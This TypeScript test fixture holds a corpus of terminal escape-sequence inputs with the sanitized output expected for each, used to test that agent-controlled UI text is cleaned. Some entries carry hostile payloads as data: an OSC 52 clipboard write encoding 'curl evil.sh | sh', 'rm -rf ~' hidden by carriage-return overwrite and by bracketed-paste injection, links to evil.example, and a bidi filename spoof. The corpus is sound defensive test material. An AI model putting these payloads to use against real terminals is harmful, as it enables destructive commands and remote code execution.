/**
 * Escape-sequence corpus: hostile or merely messy inputs an agent (or a program it runs) can put
 * into any text the UI shows. Shared by the sanitizer unit tests, the component tests and the
 * tmux tests that feed every agent-controlled field and check `capture-pane -e` output.
 */

/** One corpus entry. */
export interface EscapeCorpusEntry {
  readonly name: string;
  /** The hostile input. */
  readonly input: string;
  /** Exactly what {@link sanitizeText} must return. */
  readonly text: string;
  /** Plain text of the terminal-output rendering, when it differs from `text` (`\r`, `\b`, tabs). */
  readonly terminalText?: string;
  /** A short marker that must stay visible wherever the input is shown (absent: nothing visible). */
  readonly visible?: string;
  /** Payload of a dropped sequence that must never be shown. */
  readonly hidden?: string;
}

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

/** The corpus. Inputs are plain strings; nothing here is ever written to a real terminal. */
export const ESCAPE_CORPUS: readonly EscapeCorpusEntry[] = [
  {
    name: 'CSI clear screen and home',
    input: `${ESC}[2J${ESC}[Hcleared`,
    text: 'cleared',
    visible: 'cleared',
  },
  { name: 'SGR colour', input: `${ESC}[31mred${ESC}[0m text`, text: 'red text', visible: 'red text' },
  {
    name: 'OSC 8 hyperlink terminated by ST',
    input: `${ESC}]8;;https://evil.example/${ST}click me${ESC}]8;;${ST}`,
    text: 'click me',
    visible: 'click me',
    hidden: 'evil.example',
  },
  {
    name: 'OSC 8 hyperlink terminated by BEL',
    input: `${ESC}]8;;https://evil.example/${BEL}click${ESC}]8;;${BEL}`,
    text: 'click',
    visible: 'click',
    hidden: 'evil.example',
  },
  {
    name: 'OSC 8 hyperlink with C1 ST',
    input: `${ESC}]8;id=1;https://evil.example/\u009clink${ESC}]8;;\u009c`,
    text: 'link',
    visible: 'link',
    hidden: 'evil.example',
  },
  {
    name: 'OSC 52 clipboard write',
    input: `copy${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}done`,
    text: 'copydone',
    visible: 'copydone',
    hidden: 'Y3VybCBl',
  },
  {
    name: 'C1 OSC 52 clipboard query',
    input: 'a\u009d52;c;?\u009cb',
    text: 'ab',
    visible: 'ab',
    hidden: '52;c',
  },
  {
    name: 'OSC 0 window title',
    input: `${ESC}]0;pwned${BEL}title`,
    text: 'title',
    visible: 'title',
    hidden: 'pwned',
  },
  {
    name: 'OSC 7 and OSC 133 shell integration',
    input: `${ESC}]7;file:///etc${ST}${ESC}]133;A${BEL}prompt`,
    text: 'prompt',
    visible: 'prompt',
    hidden: 'file:///etc',
  },
  {
    name: 'OSC 1337 inline file',
    input: `${ESC}]1337;File=inline=1:QUFBQQ==${BEL}img`,
    text: 'img',
    visible: 'img',
    hidden: 'QUFBQQ',
  },
  {
    name: 'DCS sixel image',
    input: `${ESC}Pq#0;2;0;0;0#0~~@@vv@@~~${ST}sixel`,
    text: 'sixel',
    visible: 'sixel',
    hidden: '~~@@',
  },
  { name: 'DCS status request (DECRQSS)', input: `${ESC}P$qm${ST}rq`, text: 'rq', visible: 'rq' },
  {
    name: 'APC kitty graphics',
    input: `${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}kitty`,
    text: 'kitty',
    visible: 'kitty',
    hidden: 'iVBORw0',
  },
  { name: 'PM string', input: `${ESC}^private${ST}pm`, text: 'pm', visible: 'pm', hidden: 'private' },
  {
    name: 'SOS string',
    input: `${ESC}Xstart of string${ST}sos`,
    text: 'sos',
    visible: 'sos',
    hidden: 'start of',
  },
  { name: 'C1 CSI', input: 'x\u009b2Jy', text: 'xy', visible: 'xy' },
  {
    name: 'C1 DCS and APC',
    input: '\u0090q#0\u009cm\u009fapc\u009cz',
    text: 'mz',
    visible: 'mz',
    hidden: 'apc',
  },
  { name: 'C1 NEL and IND', input: 'a\u0085b\u0084c', text: 'abc', visible: 'abc' },
  { name: 'Unterminated C1 DCS', input: '\u0090q#0;2;0', text: '' },
  { name: 'BEL and NUL', input: `ding${BEL}\x00dong`, text: 'dingdong', visible: 'dingdong' },
  {
    name: 'Backspace overwrite',
    input: 'safe\b\b\b\bevil',
    text: 'safeevil',
    terminalText: 'evil',
    visible: 'evil',
  },
  {
    name: 'Carriage return overwrite',
    input: 'echo hello\rrm -rf ~',
    text: 'echo hellorm -rf ~',
    terminalText: 'rm -rf ~',
    visible: 'rm -rf ~',
  },
  { name: 'CRLF line endings', input: 'line1\r\nline2', text: 'line1\nline2', visible: 'line2' },
  { name: 'Vertical tab and form feed', input: 'a\x0bb\x0cc', text: 'abc', visible: 'abc' },
  { name: 'DEL', input: 'x\x7fy', text: 'xy', visible: 'xy' },
  {
    name: 'Bidi override (RLO)',
    input: 'invoice_\u202efdp.exe',
    text: 'invoice_fdp.exe',
    visible: 'invoice_fdp.exe',
  },
  {
    name: 'Bidi isolates',
    input: '\u2066abc\u2069 \u2067def\u2069 \u2068ghi\u2069',
    text: 'abc def ghi',
    visible: 'abc def ghi',
  },
  { name: 'Bidi embeddings and PDF', input: '\u202aa\u202b\u202cb\u202dc', text: 'abc', visible: 'abc' },
  { name: 'ESC c full reset', input: `${ESC}creset`, text: 'reset', visible: 'reset' },
  {
    name: 'ESC 7 / ESC 8 cursor save and restore',
    input: `${ESC}7saved${ESC}8`,
    text: 'saved',
    visible: 'saved',
  },
  { name: 'ESC # 8 screen alignment test', input: `${ESC}#8fill`, text: 'fill', visible: 'fill' },
  {
    name: 'Charset designation (DEC line drawing)',
    input: `${ESC}(0lqqk${ESC}(B`,
    text: 'lqqk',
    visible: 'lqqk',
  },
  { name: 'Alternate screen', input: `${ESC}[?1049halt${ESC}[?1049l`, text: 'alt', visible: 'alt' },
  { name: 'Hide cursor', input: `${ESC}[?25lhidden cursor`, text: 'hidden cursor', visible: 'hidden cursor' },
  { name: 'Mouse tracking', input: `${ESC}[?1000h${ESC}[?1006hmouse`, text: 'mouse', visible: 'mouse' },
  {
    name: 'Device status report (reply injection)',
    input: `${ESC}[6n${ESC}[cdsr`,
    text: 'dsr',
    visible: 'dsr',
  },
  {
    name: 'Window title report',
    input: `${ESC}[21ttitle report`,
    text: 'title report',
    visible: 'title report',
  },
  { name: 'Title stack and cursor shape', input: `${ESC}[22;0t${ESC}[2 qx`, text: 'x', visible: 'x' },
  { name: 'Kitty keyboard protocol push', input: `${ESC}[>1uk`, text: 'k', visible: 'k' },
  {
    name: 'Bracketed paste injection',
    input: `${ESC}[200~rm -rf ~${ESC}[201~`,
    text: 'rm -rf ~',
    visible: 'rm -rf ~',
  },
  {
    name: 'Scroll region and erase line',
    input: `${ESC}[1;1r${ESC}[2Kerase`,
    text: 'erase',
    visible: 'erase',
  },
  {
    name: 'ESC inside OSC starts a new sequence',
    input: `${ESC}]0;abc${ESC}[31mred`,
    text: 'red',
    visible: 'red',
  },
  { name: 'CAN cancels a CSI', input: `${ESC}[31\x18ok`, text: 'ok', visible: 'ok' },
  { name: 'ESC before newline', input: `a${ESC}\nb`, text: 'a\nb', visible: 'b' },
  { name: 'CSI cut by newline', input: `a${ESC}[1\nb`, text: 'a\nb', visible: 'b' },
  {
    name: 'Unterminated OSC at the end',
    input: `text${ESC}]0;never terminated`,
    text: 'text',
    visible: 'text',
    hidden: 'never',
  },
  { name: 'Incomplete CSI at the end', input: `abc${ESC}[`, text: 'abc', visible: 'abc' },
  { name: 'Lone ESC at the end', input: `abc${ESC}`, text: 'abc', visible: 'abc' },
  {
    name: 'Very long CSI parameters',
    input: `${ESC}[${'1;'.repeat(500)}mlong`,
    text: 'long',
    visible: 'long',
  },
  { name: 'SGR conceal', input: `${ESC}[8mhidden${ESC}[28m`, text: 'hidden', visible: 'hidden' },
  {
    name: 'SGR blink, 256 colours and truecolor',
    input: `${ESC}[5m${ESC}[38;5;196m256${ESC}[38;2;255;0;0mrgb${ESC}[0m`,
    text: '256rgb',
    visible: '256rgb',
  },
  { name: 'SGR with a private marker', input: `${ESC}[?31mpriv`, text: 'priv', visible: 'priv' },
  { name: 'Tab kept', input: 'a\tb', text: 'a\tb', terminalText: 'a       b' },
  {
    name: 'Numeric character reference for ESC (Markdown)',
    input: '&#27;[31m&#x9b;2J entity',
    text: '&#27;[31m&#x9b;2J entity',
    visible: 'entity',
  },
];
